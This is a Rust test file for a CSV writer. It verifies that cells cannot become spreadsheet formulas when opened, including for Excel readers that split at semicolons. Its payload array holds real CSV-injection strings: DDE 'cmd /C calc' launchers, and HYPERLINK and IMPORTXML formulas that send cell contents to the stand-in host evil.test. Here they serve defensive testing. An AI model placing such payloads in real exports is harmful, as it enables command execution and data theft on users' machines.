//! Writing CSV: what a reader by the standard gets, and what no spreadsheet may run.

use lambdesk_transfer::csv_out::{Cell, Writer, unguarded};
use proptest::prelude::*;

fn write(cells: &[Cell<'_>]) -> String {
    let mut writer = Writer::new();
    writer.row(cells);
    String::from_utf8(writer.take()).expect("it is UTF-8")
}

fn read(text: &str) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
    let rows: Vec<_> = reader.records().map(|row| row.expect("well-formed")).collect();
    assert_eq!(rows.len(), 1, "{text:?}");
    rows[0].iter().map(str::to_owned).collect()
}

/// Known attacks: OWASP "CSV Injection", and ways around filters for them.
const ATTACKS: [&str; 27] = [
    "=1+1",
    "=1+2\";=1+2",
    "=1+2'\" ;,=1+2",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://evil.test?x=\"&A1,\"Error\")",
    "=IMPORTXML(CONCAT(\"https://evil.test?v=\",A1),\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "-5",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain",
    "\rplain",
    "  =1+1",
    "\u{A0}=1+1",
    "\u{FEFF}=1+1",
    "\u{200B}\u{2060}=1+1",
    "\u{0}=1+1",
    "\u{202E}=1+1",
    "\"=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
];

#[test]
fn no_text_is_a_formula() {
    for attack in ATTACKS {
        let written = write(&["first".into(), attack.into()]);
        let cell = &read(&written)[1];
        assert!(cell.starts_with('\''), "{attack:?}");
        assert_eq!(unguarded(cell), attack);
    }
    for harmless in ["", "a=b", "1-2", "'quoted'", "ada@demo.test", "a;b\nc", "x; y=1", "(555) -1"] {
        assert_eq!(read(&write(&["first".into(), harmless.into()]))[1], harmless);
    }
}

/// The cells that Excel makes of CSV where its list separator is `;`: quotes count only where a cell begins with them, and what
/// stands behind their end up to the next separator is part of the cell.
fn split_at_semicolons(text: &str) -> Vec<String> {
    let (mut cells, mut cell, mut chars) = (Vec::new(), String::new(), text.chars().peekable());
    let (mut begins, mut quoted) = (true, false);
    while let Some(c) = chars.next() {
        match c {
            '"' if quoted && chars.peek() == Some(&'"') => cell.extend(chars.next()),
            '"' if quoted => quoted = false,
            '"' if begins => quoted = true,
            ';' | '\r' | '\n' if !quoted => {
                cells.push(std::mem::take(&mut cell));
                begins = true;
                continue;
            }
            c => cell.push(c),
        }
        begins = false;
    }
    cells.push(cell);
    cells
}

fn is_formula(cell: &str) -> bool {
    let passed_over = |c: char| c.is_whitespace() || c.is_control() || "\"\u{FEFF}\u{200B}\u{2060}\u{202E}".contains(c);
    cell.trim_start_matches(passed_over).starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
}

#[test]
fn no_text_is_a_formula_to_who_splits_at_semicolons() {
    let payloads =
        ["=cmd|' /C calc'!A0", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\"=1", "\"\"=1", " =1", "\u{FEFF}=1", "＝1", "==1"];
    let before = ["x;", ";", "x; ", "x;;", "x;\"", "\"x;", "x\n", "x\r\n", "x;\n", "x;\t"];
    for attack in payloads.iter().flat_map(|payload| before.iter().map(move |before| format!("{before}{payload}"))) {
        let written = write(&["first".into(), attack.as_str().into(), "last".into()]);
        let cells = split_at_semicolons(&written);
        assert!(!cells.iter().any(|cell| is_formula(cell)), "{attack:?}: {cells:?}");
        let cell = &read(&written)[1];
        assert!(!is_formula(cell), "{attack:?}");
        assert_eq!(unguarded(cell), attack);
    }
    let lines = read(&write(&["a\n- milk\n'-- Ada".into()])).remove(0);
    assert_eq!((lines.as_str(), unguarded(&lines).as_str()), ("a\n'- milk\n''-- Ada", "a\n- milk\n'-- Ada"));
    assert!(is_formula(&split_at_semicolons("\"a\",\"b;=1\"")[1]), "this is what it is about");
}

#[test]
fn cells_are_written_by_their_kind() {
    let time: jiff::Timestamp = "2024-05-01T10:00:00Z".parse().expect("a time");
    let cells = ["a \"b\",\r\n".into(), Cell::from(-5_i64), Cell::from(7_u64), time.into(), Cell::Empty, Some("x").into()];
    assert_eq!(write(&cells), "\"a \"\"b\"\",\r\n\",-5,7,2024-05-01T10:00:00Z,,\"x\"\r\n");
    assert_eq!(write(&[Cell::from(None::<u64>)]), "\"\"\r\n", "no empty line");
    let mut writer = Writer::with_mark();
    writer.header(&["id", "subject"]);
    assert_eq!(writer.take(), b"\xEF\xBB\xBF\"id\",\"subject\"\r\n");
    assert!(writer.is_empty());
}

proptest! {
    #[test]
    fn every_text_comes_back(texts in prop::collection::vec("(?s)['=+@\" \\-\t\r\n;]{0,5}.{0,10}", 1..6)) {
        let cells: Vec<Cell<'_>> = texts.iter().map(|text| text.as_str().into()).collect();
        let back = read(&write(&cells));
        prop_assert_eq!(back.iter().map(|text| unguarded(text)).collect::<Vec<_>>(), texts.iter().map(String::as_str).collect::<Vec<_>>());
        for cell in split_at_semicolons(&write(&cells)) {
            prop_assert!(!is_formula(&cell), "{:?}", cell);
        }
        for cell in back {
            let first = cell.trim_start().chars().next();
            prop_assert!(!first.is_some_and(|c| "=+-@＝＋－＠".contains(c)), "{:?}", cell);
        }
    }
}
